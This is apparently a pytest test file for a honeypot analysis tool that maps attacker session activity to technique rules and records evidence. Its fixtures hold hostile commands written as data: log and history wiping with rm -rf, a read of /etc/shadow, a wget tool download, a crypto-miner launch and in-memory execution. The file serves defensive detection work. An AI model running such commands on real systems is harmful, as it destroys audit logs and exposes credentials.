"""Techniques that sessions show, with their evidence, in the index."""

from pathlib import Path
from typing import Any

import pytest

from hermes import events
from hermes.analysis import rules_match
from hermes.analysis.stage import Gone
from hermes.analysis.techniques import MAX_EVIDENCE, Techniques
from tests.unit.analysis.test_scans import FakeScanner, look, scans
from tests.unit.analysis.world import World, artifact

RULES = rules_match.load(None)


class Seen(World):
    """A world whose files are looked at when asked."""

    def __init__(self, path: Path) -> None:
        techniques = Techniques(RULES)
        self.scans = scans(FakeScanner(), path, techniques.scanned)
        super().__init__(path, [self.scans, techniques])

    def look(self) -> None:
        look(self, self.scans)


@pytest.fixture
def world(tmp_path: Path) -> Seen:
    return Seen(tmp_path)


def found(world: World, session: str) -> set[str]:
    rows = world.rows("SELECT rule FROM techniques WHERE session_id = ? AND count >= needed", session)
    return {rule for (rule,) in rows}


def test_findings_of_a_session_name_the_event_and_the_text(world: Seen) -> None:
    session = world.session("uname -a", "history -c; rm -rf /var/log/wtmp")
    assert found(world, session) == {"unix-shell", "system-information", "history-cleared", "logs-cleared"}
    (finding,) = world.rows("SELECT technique, event_id, count FROM techniques WHERE rule = 'logs-cleared'")
    (evidence,) = world.rows("SELECT event_id, text FROM techniques_evidence WHERE rule = 'logs-cleared'")
    event = world.happened[evidence[0] - 1]
    assert finding == ("T1070.002", event.id, 1)
    assert event.body["command"] == "history -c; rm -rf /var/log/wtmp"
    assert evidence[1] == "rm -rf /var/log/wtmp"


def test_what_was_typed_counts_as_what_was_sent_to_be_executed(world: Seen) -> None:
    assert found(world, world.session("cat /etc/shadow", typed=True)) == {"shadow-read"}


def test_processes_files_and_forwards_count_too(world: Seen) -> None:
    place: dict[str, Any] = {"container_id": "b", "parent": 1, "uid": 0, "gid": 0, "cwd": "/"}
    session = world.session(
        more=[
            events.ProcessStarted(pid=7, program="/usr/bin/wget", argv=["wget", "http://192.0.2.1/x"], **place),
            events.ProcessStarted(pid=8, program="/tmp/xmrig", argv=["xmrig"], error="ENOENT", **place),
            events.FileExecuted(container_id="b", path="/memfd:a (deleted)", size=4, deleted=True),
            events.ForwardRequested(kind="direct-tcpip", host="mail.example", port=25, accepted=True),
        ]
    )
    assert found(world, session) == {
        "tool-downloaded", "memory-program", "brought-program-run", "traffic-forwarded", "mail-relayed",
    }  # fmt: skip


def test_guesses_before_the_login_are_of_the_session_and_need_a_number(world: Seen) -> None:
    assert found(world, world.session(failures=2)) == set()
    assert found(world, world.session(failures=3)) == {"password-guessed"}


def test_evidence_is_bounded_and_counted(world: Seen) -> None:
    session = world.session(*["whoami"] * (MAX_EVIDENCE + 7))
    assert world.rows("SELECT count FROM techniques WHERE session_id = ? AND rule = 'users-asked'", session) == [
        (MAX_EVIDENCE + 7,)
    ]
    assert world.rows("SELECT count(*) FROM techniques_evidence WHERE rule = 'users-asked'") == [(MAX_EVIDENCE,)]


def test_what_a_file_is_counts_when_it_was_looked_at_and_for_all_who_bring_it(world: Seen) -> None:
    first = world.session(more=[artifact("miner")])
    assert found(world, first) == set()
    world.look()
    assert found(world, first) == {"mining"}
    second = world.session(more=[artifact("miner", path="/tmp/other")])
    assert found(world, second) == {"mining"}
    assert world.rows("SELECT DISTINCT text FROM techniques_evidence") == [("YARA miner",)]


def test_what_is_forgotten_is_gone(world: Seen) -> None:
    kept, gone = world.session("uname"), world.session("uname")
    world.index.forget(Gone([f"c-{gone}"], [gone], []))
    assert found(world, gone) == set()
    assert found(world, kept) == {"unix-shell", "system-information"}
    assert world.rows("SELECT count(*) FROM techniques_evidence") == [(2,)]
